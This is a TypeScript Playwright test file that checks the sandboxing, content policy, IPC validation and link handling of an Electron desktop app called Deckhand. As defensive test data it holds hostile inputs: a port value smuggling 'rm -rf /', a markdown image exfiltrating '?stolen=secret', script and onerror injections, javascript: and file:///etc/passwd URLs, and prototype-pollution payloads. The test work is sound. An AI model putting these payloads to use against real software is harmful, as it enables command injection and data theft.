import { writeFileSync } from 'node:fs'
import { DESKTOP_CALLS, type DesktopBridge, type DesktopOutcome } from '../../src-main/contract/desktop-api.ts'
import { expect, test } from '../fixtures/deckhand.ts'
import { setUpAgent } from '../fixtures/set-up-agent.ts'
import { valueOf } from '../fixtures/value-of.ts'

const ELSEWHERE = 'https://elsewhere.example/path'

test('the page is sandboxed: no Node, no require, only the desktop calls', async ({ page }) => {
  const inPage = await page.evaluate(() => ({
    require: typeof (globalThis as { require?: unknown }).require,
    process: typeof (globalThis as { process?: unknown }).process,
    deckhand: typeof (globalThis as { deckhand?: unknown }).deckhand,
  }))
  expect(inPage).toEqual({ require: 'undefined', process: 'undefined', deckhand: 'object' })
})

test('the page cannot navigate, open windows or get permissions', async ({ deckhand, page }) => {
  await deckhand.setHooks({ confirm: false })
  await expect(page.getByRole('heading', { name: 'Choose a model' })).toBeVisible()
  const address = page.url()

  expect(await page.evaluate((url) => window.open(url) === null, ELSEWHERE)).toBe(true)
  await expect.poll(async () => (await deckhand.hooks()).questions).toEqual(['Open elsewhere.example in your browser?'])
  await page.evaluate((url) => void (location.href = url), ELSEWHERE)
  await expect.poll(async () => (await deckhand.hooks()).questions).toHaveLength(2)
  // The desktop does not even ask about addresses that no browser should get.
  await page.evaluate(() => void window.open('file:///etc/passwd'))
  await page.evaluate(() => void (location.href = 'data:text/html,<h1>taken over</h1>'))
  expect(page.url()).toBe(address)
  expect(deckhand.app.windows()).toHaveLength(1)
  expect(await deckhand.hooks()).toMatchObject({ opened: [], questions: [expect.any(String), expect.any(String)] })

  const granted = await page.evaluate(async () => {
    const names = ['camera', 'microphone', 'clipboard-read', 'notifications', 'midi', 'storage-access'] as PermissionName[]
    const states = await Promise.all(names.map(async (name) => (await navigator.permissions.query({ name })).state))
    const location = await new Promise((resolve) =>
      navigator.geolocation.getCurrentPosition(
        () => resolve('granted'),
        (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : error.message),
      ),
    )
    return [...states, location, await Notification.requestPermission()]
  })
  expect(granted).toEqual(Array(8).fill('denied'))
})

test('a page that is dropped on the window is not opened', async ({ deckhand, page }, testInfo) => {
  const dropped = testInfo.outputPath('dropped.html')
  writeFileSync(dropped, '<h1>Taken over</h1>')
  await expect(page.getByRole('heading', { name: 'Choose a model' })).toBeVisible()
  const address = page.url()
  const sawDrag = page.evaluate(() => new Promise<boolean>((resolve) => document.addEventListener('dragover', () => resolve(true))))

  const session = await page.context().newCDPSession(page)
  const data = { items: [], files: [dropped], dragOperationsMask: 1 }
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
    await session.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data })
  expect(await sawDrag).toBe(true)
  // Chromium would open it in a window of its own, well before this page is there again.
  await page.reload()
  await expect(page.getByRole('heading', { name: 'Choose a model' })).toBeVisible()
  expect(page.url()).toBe(address)
  expect(deckhand.app.windows()).toHaveLength(1)
  expect((await deckhand.hooks()).questions).toEqual([])
})

test('the page runs and loads only what came with the app', async ({ page, stranger }) => {
  const policy = await page.evaluate(async () =>
    (await fetch(location.href, { headers: { accept: 'text/html' } })).headers.get('content-security-policy'),
  )
  expect(policy).toContain("default-src 'none'")
  expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|https?:|\*/)

  const attempts = await page.evaluate(async (port) => {
    const violation = (cause: () => void) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
        cause()
      })
    const append = (tag: string, fields: object) => () => document.body.append(Object.assign(document.createElement(tag), fields))
    const script = await violation(append('script', { textContent: 'document.title = "taken over"' }))
    const frame = await violation(append('iframe', { src: 'data:text/html,<h1>taken over</h1>' }))
    const image = await violation(append('img', { src: `http://127.0.0.1:${port}/pixel.png` }))
    const answer = (name: string) => [() => `${name} went through`, () => `${name} was refused`] as const
    const fetched = await fetch(`http://127.0.0.1:${port}/`).then(...answer('fetch'))
    const evaluated = await Promise.resolve()
      // oxlint-disable-next-line typescript/no-implied-eval -- exactly what the page's policy must block
      .then(() => new Function('return 1')())
      .then(...answer('eval'))
    const socket = await new Promise((resolve) => {
      try {
        const made = new WebSocket(`ws://127.0.0.1:${port}/`)
        made.onerror = () => resolve('socket was refused')
        made.onopen = () => resolve('socket went through')
      } catch {
        resolve('socket was refused')
      }
    })
    return [script, frame, image, fetched, evaluated, socket]
  }, stranger.port)
  expect(attempts).toEqual(['script-src-elem', 'frame-src', 'img-src', 'fetch was refused', 'eval was refused', 'socket was refused'])
  await expect(page).toHaveTitle(/Deckhand/)
  expect(stranger.connections()).toBe(0)
})

test('the reply of a model fetches and runs nothing, and its links ask before they open', async ({ deckhand, page, models, stranger }) => {
  await setUpAgent(deckhand.client, models)
  const there = `http://127.0.0.1:${stranger.port}`
  models.play({
    text: [
      `![a picture](${there}/pixel.png?stolen=secret)\n\n<img src="${there}/raw.png" onerror="document.title='taken over'">\n\n`,
      `<script>document.title = 'taken over'</script><style>@import url(${there}/x.css)</style><iframe src="${there}/frame"></iframe>\n\n`,
      `[the manual](${ELSEWHERE}) and [a trap](javascript:document.title='taken-over')\n\nThat was all.`,
    ],
  })
  await page.goto('app://deckhand/chat')
  await page.getByRole('textbox', { name: 'Message' }).fill('Show me a picture')
  await page.keyboard.press('Enter')
  const answer = page.getByRole('group', { name: 'Chat' })
  await expect(answer.getByText('That was all.', { exact: true })).toBeVisible()
  await expect(answer.locator('img, iframe, script, style')).toHaveCount(0)
  await expect(page).toHaveTitle(/Deckhand/)

  await deckhand.setHooks({ confirm: false })
  await answer.getByRole('link', { name: 'the manual' }).click()
  await expect.poll(async () => (await deckhand.hooks()).questions).toEqual(['Open elsewhere.example in your browser?'])
  expect((await deckhand.hooks()).opened).toEqual([])

  await deckhand.setHooks({ confirm: true })
  await answer.getByRole('link', { name: 'the manual' }).click()
  await expect.poll(async () => (await deckhand.hooks()).opened).toEqual([ELSEWHERE])
  await expect(answer.getByRole('link', { name: 'a trap' })).toHaveCount(0)
  expect(stranger.connections()).toBe(0)
})

test('the desktop rejects invalid calls with an error', async ({ deckhand, page }) => {
  const before = await deckhand.state()
  const answers = await page.evaluate(async () => {
    const { deckhand: desktop } = window as unknown as { deckhand: DesktopBridge }
    const refused = (call: Promise<DesktopOutcome>) => call.then((outcome) => (outcome.ok ? 'carried out' : outcome.message.code))
    return Promise.all([
      refused(desktop.usePort({ server: 'runner', port: '3001; rm -rf /' } as never)),
      refused(desktop.changeSettings({ runnerPort: 0 })),
      refused(desktop.changeSettings({ theme: 'pink' } as never)),
      refused(desktop.showFolder('/etc' as never)),
      refused(desktop.copyText({} as never)),
    ])
  })
  expect(answers).toEqual(Array(5).fill('error_invalid_request'))
  expect(await deckhand.state()).toEqual(before)

  const opened = await page.evaluate(() => {
    const { deckhand: desktop } = window as unknown as { deckhand: DesktopBridge }
    return Promise.all(
      ['file:///etc/passwd', 'javascript:alert(1)', 'smb://elsewhere.example/share', 'nonsense'].map((url) =>
        desktop.openExternal({ url }),
      ),
    )
  })
  expect(opened.map(valueOf)).toEqual([false, false, false, false])
  expect((await deckhand.hooks()).opened).toEqual([])
})

test('no other page may call the desktop, and messages of any size change nothing', async ({ deckhand, page }) => {
  const before = await deckhand.state()
  const known = Object.keys(DESKTOP_CALLS)
  const unknown = ['nonsense', '__proto__', 'constructor', 'toString', '']
  // A page that was taken over could have what ours has not: Electron's own functions.
  const answers = await deckhand.app.evaluate(
    async ({ BrowserWindow }, names) => {
      const taken = new BrowserWindow({ show: false, webPreferences: { nodeIntegration: true, contextIsolation: false, sandbox: false } })
      const call = (wanted: string[]) =>
        taken.webContents.executeJavaScript(`Promise.all(${JSON.stringify(wanted)}.map((name) =>
          require('electron').ipcRenderer.invoke('deckhand:call:' + name)
            .then(({ ok, message }) => ok || message.code, (error) => error.message)))`) as Promise<unknown[]>
      await taken.loadURL('app://deckhand/')
      const own = await call(['getState'])
      await taken.loadURL('data:text/html,elsewhere')
      const elsewhere = await call(names)
      taken.destroy()
      return { own, elsewhere }
    },
    [...known, ...unknown],
  )
  const refused = [...known.map(() => 'error_unauthorized'), ...unknown.map(() => expect.stringContaining('No handler registered'))]
  expect(answers).toEqual({ own: [true], elsewhere: refused })

  const sent = await page.evaluate(async () => {
    const { deckhand: desktop } = window as unknown as { deckhand: DesktopBridge }
    const huge = 'x'.repeat(50_000_000)
    const outcomes = [
      await desktop.copyText(huge),
      await desktop.openExternal({ url: huge }),
      await desktop.changeSettings({ theme: { [huge]: 1 } } as never),
      await desktop.share(JSON.parse('{"__proto__":{"on":true}}')),
      await desktop.restartRunner(JSON.parse('{"constructor":{"prototype":{"safeMode":true}}}')),
    ]
    return outcomes.map((outcome) => (outcome.ok ? 'carried out' : outcome.message.code))
  })
  expect(sent).toEqual(Array(5).fill('error_invalid_request'))
  expect(await deckhand.state()).toEqual(before)
})

test('the page cannot embed another one in a webview', async ({ deckhand, page }) => {
  const hasGuest = await page.evaluate(() => {
    const view = document.createElement('webview')
    view.setAttribute('src', 'data:text/html,taken over')
    document.body.append(view)
    return 'getURL' in view
  })
  expect(hasGuest).toBe(false)
  expect(await deckhand.app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1)
})

test('the desktop asks before it gives out the secret', async ({ deckhand, page }) => {
  const ask = async () =>
    valueOf(await page.evaluate(() => (globalThis as unknown as { deckhand: DesktopBridge }).deckhand.revealSecret(undefined)))
  await deckhand.setHooks({ confirm: false })
  expect(await ask()).toBeNull()
  expect((await deckhand.hooks()).questions).toEqual(['Show the API secret?'])
  await deckhand.setHooks({ confirm: true })
  const secret = await ask()
  expect(secret).toMatch(/^[\w-]{43}$/)
  expect(JSON.stringify(await deckhand.state())).not.toContain(secret!)
})
